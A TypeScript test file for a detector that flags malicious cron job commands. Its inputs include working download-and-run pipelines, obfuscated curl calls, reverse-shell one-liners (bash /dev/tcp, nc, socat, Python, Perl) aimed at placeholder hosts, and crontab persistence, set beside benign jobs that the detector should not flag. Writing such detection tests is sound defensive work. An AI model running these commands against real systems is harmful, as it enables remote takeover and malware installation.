import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readScript } from '../../behavior/shell/read-script.ts';
import { jobSigns } from './job-signs.ts';

function signs(text: string): string[] {
  return jobSigns(readScript(text, { place: { path: 'etc/cron.d/x', decoded: [] } }).commands).map(({ does }) => does);
}

test('downloads that are run, however they are written', () => {
  for (const text of [
    'curl -fsSL http://192.0.2.1/a.jpg | bash -s',
    'wget -qO- http://192.0.2.1/a|sh',
    '/usr/bin/curl -s x.example | /bin/busybox sh',
    'sh -c "$(curl -s x.example)"',
    'eval "$(wget -O - x.example)"',
    'bash <(curl -s x.example)',
    '. <(curl -s x.example)',
    'a=cu b=rl; a=cu; b=rl; $a$b -s x.example | sh',
    '(curl -s x.example || wget -qO- x.example) | sh',
    'nohup sh -c "curl x.example | sh" >/dev/null 2>&1 &',
    'for u in a.example b.example; do curl -s $u | bash && break; done',
    'su - www-data -s /bin/sh -c "curl x.example | sh"',
    'curl -s x.example | sudo -E bash -',
    'curl -s x.example | python3',
    'curl -s x.example | perl -',
  ]) {
    assert.deepEqual(signs(text), ['downloads a script and runs it'], text);
  }
});

test('files that are downloaded and then run', () => {
  for (const text of [
    'wget -O /opt/a http://x.example/b; chmod +x /opt/a; /opt/a',
    'curl -o /opt/a http://x.example/b && sh /opt/a',
    'curl -s x.example > /opt/a; bash /opt/a',
    'cd /opt; wget -q http://x.example/a; sh a',
    'cd /opt; curl -sO http://x.example/a; chmod 755 a; ./a',
  ]) {
    assert.match(signs(text)[0] ?? '', /^downloads \S+ and runs it$/, text);
  }
});

test('shells for remote hosts', () => {
  for (const text of [
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
    'nc -e /bin/sh 192.0.2.1 4444',
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
    'exec 3<>/dev/tcp/192.0.2.1/4444; sh <&3 >&3',
    'socat TCP:192.0.2.1:4444 EXEC:/bin/sh',
    `python -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
    `perl -e 'use IO::Socket;$s=IO::Socket::INET->new("192.0.2.1:1");open(STDIN,">&",$s);exec("/bin/sh")'`,
  ]) {
    assert.deepEqual(signs(text), ['opens a shell to a remote host'], text);
  }
});

test('what honest jobs do is no sign', () => {
  for (const text of [
    'curl -fsS https://x.example/ping > /dev/null',
    'curl -s https://x.example/list | jq -r .a | sort > /etc/list',
    'curl -sSL https://x.example/a.tar.gz | tar xz -C /usr/share',
    'wget -q -O /var/lib/db.gz https://x.example/db.gz && gunzip -f /var/lib/db.gz',
    'php artisan schedule:run >> /dev/null 2>&1',
    'flock -n /tmp/job.lock /usr/local/bin/job',
    'find /tmp -mtime +3 -delete; rm -rf /var/tmp/x/*',
    '"/root/.acme.sh"/acme.sh --cron',
    '. /etc/.env; /app/bin/tick',
    'eval "$(direnv hook bash)"; source <(kubectl completion bash)',
    '[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"',
    'until echo > /dev/tcp/db/5432; do sleep 1; done',
    'pg_dump app | gzip | openssl enc -aes-256-cbc -out /backup/x',
    'ssh host "cat /etc/x" | sh -c "cat > /dev/null"',
    'nc -z db 5432 && echo ok',
    'start-stop-daemon --start --pidfile /tmp/app.pid --exec /opt/app/server',
    'cat list | python3 /app/import.py',
    'git pull && ./deploy.sh',
    'export PATH="$HOME/.local/bin:$PATH"; export LD_PRELOAD=/usr/lib/libjemalloc.so.2',
    'echo "0 3 * * * root /usr/local/bin/backup" > /etc/cron.d/backup',
  ]) {
    assert.deepEqual(signs(text), [], text);
  }
});

test('jobs that install jobs are read one level deep', () => {
  assert.deepEqual(signs('(crontab -l; echo "* * * * * curl x.example | sh") | crontab -'), [
    'installs a cron job that downloads a script and runs it',
  ]);
  assert.deepEqual(signs('echo "* * * * * root /dev/shm/.z" >> /etc/crontab'), [
    'installs a cron job that runs /dev/shm/.z, which lies in a folder that everybody may write to',
  ]);
});

test('hostile lengths take no time', () => {
  const started = performance.now();
  for (const text of [
    `curl ${'-o '.repeat(20_000)}x | sh`,
    `python -c '${'socket '.repeat(10_000)}'`,
    `echo ${'* '.repeat(50_000)} | crontab -`,
    `PROMPT_COMMAND='${'PROMPT_COMMAND=x;'.repeat(5_000)}'`,
    '(sh|nc x);'.repeat(5_000),
  ]) {
    signs(text);
  }
  assert.ok(performance.now() - started < 10_000);
});
